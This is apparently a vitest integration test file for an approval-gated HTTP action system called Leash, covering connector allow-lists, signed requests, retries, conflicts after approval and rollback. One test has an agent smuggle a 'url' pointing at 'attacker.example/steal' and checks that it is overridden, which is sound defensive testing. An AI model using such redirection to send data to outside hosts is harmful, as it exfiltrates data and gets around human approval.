import { randomBytes } from "node:crypto";
import { createServer, type IncomingHttpHeaders, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { performance } from "node:perf_hooks";

import { Webhook } from "standardwebhooks";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

import type { CreateConnectorInput } from "@leash/core";
import { createTestEnvironment, createTestTenant, waitFor, type TestEnvironment, type TestTenant } from "@leash/core/testing";
import { databaseFingerprint } from "@leash/db/testing";
import { startTestWorker } from "@leash/worker/test-support";

import type { AppRouter, TRPCClientError } from "../src/client.ts";
import { startTestApi } from "./support.ts";

// The `http` action type end to end: proposed and decided over the API, sent by a real worker to
// real HTTP receivers on 127.0.0.1. Each test starts the worker and receivers it needs and stops
// them after, so one test can approve an action before any worker runs.
let environment: TestEnvironment;
let api: Awaited<ReturnType<typeof startTestApi>>;
let tenant: TestTenant;
const cleanups: (() => Promise<void>)[] = [];

beforeAll(async () => {
  environment = await createTestEnvironment({ connectorKey: randomBytes(32) });
  api = await startTestApi(environment);
  tenant = await createTestTenant(environment.db, "http-actions");
});

afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

afterAll(async () => {
  await api.close();
  await environment.close();
});

const agent = () => api.client(tenant.keys.agent);
const approver = () => api.client(tenant.keys.approver);
const admin = () => api.client(tenant.keys.admin);
const errorOf = (promise: Promise<unknown>) => promise.then(() => null, (error: unknown) => error as TRPCClientError<AppRouter>);

/** The in-process worker with short retry delays (100 ms doubling), stopped after the test. */
async function startWorker() {
  const worker = await startTestWorker(environment);
  cleanups.push(() => worker.close());
  return worker;
}

interface Arrival {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
  /** performance.now() when the request's body had arrived. */
  at: number;
}

type Answer = { status: number; body?: unknown; headers?: Record<string, string> };

/** A real HTTP receiver on 127.0.0.1: records every request and gives the nth one the nth answer (the last one after that). */
async function startReceiver(answers: Answer[] = [{ status: 200, body: { ok: true } }]) {
  const requests: Arrival[] = [];
  const server = createServer((request, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      requests.push({ method: request.method ?? "", url: request.url ?? "", headers: request.headers, body: Buffer.concat(chunks).toString("utf8"), at: performance.now() });
      const answer = answers[Math.min(requests.length, answers.length) - 1] ?? { status: 200 };
      response.writeHead(answer.status, { "content-type": "application/json", ...answer.headers });
      response.end(answer.body === undefined ? undefined : JSON.stringify(answer.body));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  cleanups.push(
    () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  );
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, requests };
}

let connectors = 0;
/** A connector created through the API by an admin key; its signing secret is in this answer only. */
async function createConnector(baseUrl: string, overrides: Partial<CreateConnectorInput> = {}) {
  connectors += 1;
  const { connector, signingSecret } = await admin().connector.create.mutate({
    name: `billing-${connectors}`,
    baseUrl,
    allowedMethods: ["POST", "DELETE"],
    allowedPathPrefixes: ["/invoices"],
    timeoutMs: 5_000,
    // The receivers listen on loopback, which connectors refuse unless allowed.
    allowPrivateNetwork: true,
    ...overrides,
  });
  return { name: connector.name, id: connector.id, signingSecret };
}

const invoice = { customer: "cus_7", amount: 1200, currency: "EUR", lines: [{ sku: "seat", quantity: 3 }] };

async function proposeInvoice(connector: string, path = "/invoices") {
  const { action } = await agent().action.propose.mutate({ actionType: "http", parameters: { connector, method: "POST", path, body: invoice } });
  return action;
}

async function waitForStatus(actionId: number, statuses: string[] = ["executed", "failed"]) {
  return waitFor(
    async () => {
      const action = await approver().action.get.query({ actionId });
      return statuses.includes(action.status) ? action : undefined;
    },
    { what: `#${actionId} to reach ${statuses.join("/")}` },
  );
}

/** Proposed by the agent, approved by a person, run by the worker. */
async function approvedAndRun(connector: string) {
  const proposed = await proposeInvoice(connector);
  await approver().action.approve.mutate({ actionId: proposed.id });
  return waitForStatus(proposed.id);
}

const eventTypes = (action: { timeline: { type: string }[] }) => action.timeline.map((event) => event.type);

/** Throws unless the request carries a Standard Webhooks signature made with `secret`. */
function verifySignature(secret: string, request: Arrival) {
  return new Webhook(secret).verify(request.body, request.headers as Record<string, string>);
}

describe("proposing http", () => {
  it("refuses an unknown connector (404 naming it), a path outside the allowed prefixes and a method not allowed (400), and writes nothing", async () => {
    const receiver = await startReceiver();
    const { name } = await createConnector(`${receiver.origin}/v1`);
    const propose = (parameters: Record<string, unknown>) => api.call("POST", "action.propose", { apiKey: tenant.keys.agent, body: { actionType: "http", parameters } });
    const before = await databaseFingerprint(environment.db);

    const unknown = await propose({ connector: "ghost-api", method: "POST", path: "/invoices", body: invoice });
    expect(unknown.status).toBe(404);
    expect(unknown.body.error).toMatchObject({ message: 'No connector "ghost-api" in this tenant', data: { code: "NOT_FOUND" } });

    const outside = await propose({ connector: name, method: "POST", path: "/admin/users", body: invoice });
    expect(outside.status).toBe(400);
    expect(outside.body.error).toMatchObject({ message: `${name} allows only paths under /invoices; /admin/users is not.`, data: { code: "BAD_REQUEST" } });

    const method = await propose({ connector: name, method: "PUT", path: "/invoices", body: invoice });
    expect(method.status).toBe(400);
    expect(method.body.error).toMatchObject({ message: `${name} does not allow PUT (allowed: POST, DELETE).`, data: { code: "BAD_REQUEST" } });

    expect(await databaseFingerprint(environment.db)).toBe(before);
    expect(receiver.requests).toEqual([]);
  });

  it("shows the full URL and whether it can be undone; once approved the receiver gets exactly that request, signed, and the result holds the answer", async () => {
    const receiver = await startReceiver([{ status: 201, body: { id: "inv_1", total: 1200 }, headers: { "x-request-id": "req_9" } }]);
    const { name, signingSecret } = await createConnector(`${receiver.origin}/v1`);
    await startWorker();

    // A url sent by the agent is replaced by the one Leash builds from the connector.
    const { action: proposed } = await agent().action.propose.mutate({
      actionType: "http",
      parameters: { connector: name, method: "POST", path: "/invoices?draft=true", body: invoice, url: "https://attacker.example/steal" },
    });
    expect(proposed).toMatchObject({
      status: "pending",
      requiresApproval: true,
      parameters: { connector: name, method: "POST", path: "/invoices?draft=true", body: invoice, url: `${receiver.origin}/v1/invoices?draft=true`, undoable: false },
    });
    expect(receiver.requests).toEqual([]);

    await approver().action.approve.mutate({ actionId: proposed.id });
    const done = await waitForStatus(proposed.id);
    expect(done.status, done.errorMessage ?? "").toBe("executed");

    expect(receiver.requests).toHaveLength(1);
    const [request] = receiver.requests;
    if (!request) throw new Error("no request arrived");
    expect(request).toMatchObject({ method: "POST", url: "/v1/invoices?draft=true" });
    expect(JSON.parse(request.body)).toEqual(invoice);
    expect(request.headers).toMatchObject({
      "content-type": "application/json",
      "idempotency-key": `leash-action-${proposed.id}`,
      "webhook-id": `msg_leash_action_${proposed.id}`,
    });
    expect(() => verifySignature(signingSecret, request)).not.toThrow();
    expect(() => verifySignature(`whsec_${randomBytes(24).toString("base64")}`, request)).toThrow();

    expect(done.attempts).toBe(1);
    expect(done.result).toMatchObject({
      status: 201,
      url: `${receiver.origin}/v1/invoices?draft=true`,
      headers: { "content-type": "application/json", "x-request-id": "req_9" },
      body: { id: "inv_1", total: 1200 },
      truncated: false,
    });
    expect(eventTypes(done)).toEqual(["proposed", "approved", "started", "executed"]);
  });
});

describe("outcomes of the request", () => {
  it("500 then 200: the receiver gets the same idempotency key twice and the action executes once, after 2 attempts", async () => {
    const receiver = await startReceiver([{ status: 500, body: { error: "database busy" } }, { status: 200, body: { id: "inv_2" } }]);
    const { name } = await createConnector(receiver.origin);
    await startWorker();

    const done = await approvedAndRun(name);
    expect(done.status, done.errorMessage ?? "").toBe("executed");
    expect(receiver.requests.map((request) => [request.method, request.url, request.headers["idempotency-key"], request.headers["webhook-id"]])).toEqual([
      ["POST", "/invoices", `leash-action-${done.id}`, `msg_leash_action_${done.id}`],
      ["POST", "/invoices", `leash-action-${done.id}`, `msg_leash_action_${done.id}`],
    ]);
    // The same bytes both times (JSON as stored: Postgres orders the keys its own way).
    expect(receiver.requests[1]?.body).toBe(receiver.requests[0]?.body);
    expect(JSON.parse(receiver.requests[0]?.body ?? "null")).toEqual(invoice);
    expect(done.attempts).toBe(2);
    expect(eventTypes(done)).toEqual(["proposed", "approved", "started", "retried", "started", "executed"]);
    expect(done.timeline.find((event) => event.type === "retried")?.details).toMatchObject({ attempt: 1, error: `${name} answered 500 Internal Server Error` });
    expect(done.result).toMatchObject({ status: 200, body: { id: "inv_2" } });
  });

  it("429 with Retry-After: 1 is sent again no sooner than a second later", async () => {
    const receiver = await startReceiver([{ status: 429, body: { error: "slow down" }, headers: { "retry-after": "1" } }, { status: 200, body: { id: "inv_3" } }]);
    const { name } = await createConnector(receiver.origin);
    await startWorker();

    const done = await approvedAndRun(name);
    expect(done.status, done.errorMessage ?? "").toBe("executed");
    const [first, second] = receiver.requests;
    if (!first || !second) throw new Error(`expected two requests, got ${receiver.requests.length}`);
    // The worker's own backoff would have sent it again after 100 ms.
    expect(second.at - first.at).toBeGreaterThanOrEqual(1_000);
    expect(second.headers["idempotency-key"]).toBe(first.headers["idempotency-key"]);
    expect(done.timeline.find((event) => event.type === "retried")?.details).toMatchObject({
      error: `${name} answered 429 Too Many Requests; it asks to retry after 1 s`,
      nextDelayMs: 1_000,
    });
    expect(done.attempts).toBe(2);
  });

  it("404 fails at once, with the status in the error", async () => {
    const receiver = await startReceiver([{ status: 404, body: { error: "no such customer" } }]);
    const { name } = await createConnector(receiver.origin);
    await startWorker();

    const done = await approvedAndRun(name);
    expect(done.status).toBe("failed");
    expect(done.errorMessage).toMatch(new RegExp(`^${name} answered 404 Not Found: .*no such customer`));
    expect(done.attempts).toBe(1);
    expect(receiver.requests).toHaveLength(1);
    expect(done.timeline.at(-1)).toMatchObject({ type: "failed", details: { attempt: 1, permanent: true } });
  });

  it("a connector whose base URL changed after the approval: the action fails with the conflict and nothing is sent", async () => {
    const before = await startReceiver();
    const after = await startReceiver();
    const { name, id } = await createConnector(`${before.origin}/v1`);
    const proposed = await proposeInvoice(name);
    // No worker runs yet: the approved action waits in the queue while the admin repoints the connector.
    await approver().action.approve.mutate({ actionId: proposed.id });
    await admin().connector.update.mutate({ connectorId: id, baseUrl: `${after.origin}/v2` });
    await startWorker();

    const done = await waitForStatus(proposed.id);
    expect(done.status).toBe("failed");
    expect(done.errorMessage).toBe(`connector ${name} now points at ${after.origin}/v2/invoices, not at ${before.origin}/v1/invoices as approved; propose the request again`);
    expect(done.attempts).toBe(1);
    expect(done.timeline.at(-1)).toMatchObject({ type: "failed", details: { permanent: true } });
    expect([before.requests, after.requests]).toEqual([[], []]);
  });
});

describe("rolling back http", () => {
  it("with an undo template: the preview describes the DELETE and rollback sends it", async () => {
    const receiver = await startReceiver([{ status: 201, body: { id: "inv_42", total: 1200 } }, { status: 200, body: { deleted: true } }]);
    const { name, signingSecret } = await createConnector(`${receiver.origin}/v1`, { undo: { method: "DELETE", path: "/invoices/{{result.body.id}}" } });
    await startWorker();

    const proposed = await proposeInvoice(name);
    expect(proposed.parameters).toMatchObject({ undoable: true });
    await approver().action.approve.mutate({ actionId: proposed.id });
    const done = await waitForStatus(proposed.id);
    expect(done.status, done.errorMessage ?? "").toBe("executed");

    const preview = await approver().action.rollbackPreview.query({ actionId: done.id });
    expect(preview).toMatchObject({ canRollBack: true, refusal: null, laterActionIds: [] });
    expect(preview.steps).toEqual([
      {
        actionId: done.id,
        actionType: "http",
        targetType: null,
        targetId: null,
        description: `sends DELETE ${name} /invoices/inv_42`,
        changes: [{ field: "request", current: null, restored: `DELETE ${name} /invoices/inv_42` }],
      },
    ]);
    expect(receiver.requests).toHaveLength(1);

    const { undoActions } = await approver().action.rollback.mutate({ actionId: done.id, confirm: true });
    expect(undoActions).toHaveLength(1);
    const undo = await waitForStatus(undoActions[0]?.id ?? 0);
    expect(undo.status, undo.errorMessage ?? "").toBe("executed");
    expect(undo).toMatchObject({ rollbackOfId: done.id, result: { status: 200, body: { deleted: true } } });

    expect(receiver.requests).toHaveLength(2);
    const sent = receiver.requests[1];
    if (!sent) throw new Error("the undo request did not arrive");
    expect(sent).toMatchObject({ method: "DELETE", url: "/v1/invoices/inv_42", body: "" });
    expect(sent.headers["idempotency-key"]).toBe(`leash-action-${undo.id}`);
    expect(() => verifySignature(signingSecret, sent)).not.toThrow();
    const original = await approver().action.get.query({ actionId: done.id });
    expect(original.rolledBackAt).not.toBeNull();
    expect(eventTypes(original).slice(-2)).toEqual(["rollback_requested", "rolled_back"]);
  });

  it("without an undo template: rollback is refused UNPROCESSABLE_CONTENT with the reason, and nothing is sent", async () => {
    const receiver = await startReceiver([{ status: 201, body: { id: "inv_43" } }]);
    const { name } = await createConnector(receiver.origin);
    await startWorker();

    const done = await approvedAndRun(name);
    expect(done.status, done.errorMessage ?? "").toBe("executed");
    expect(done.parameters).toMatchObject({ undoable: false });
    const reason = `#${done.id} called a service that cannot be undone: connector ${name} has no undo request`;

    const preview = await approver().action.rollbackPreview.query({ actionId: done.id });
    expect(preview).toMatchObject({ canRollBack: false, refusal: { code: "NOT_REVERSIBLE", message: reason }, steps: [] });
    const refused = await errorOf(approver().action.rollback.mutate({ actionId: done.id, confirm: true }));
    expect(refused?.data?.code).toBe("UNPROCESSABLE_CONTENT");
    expect(refused?.message).toBe(reason);

    expect((await approver().action.get.query({ actionId: done.id })).rollbackActionId).toBeNull();
    expect(receiver.requests).toHaveLength(1);
  });
});
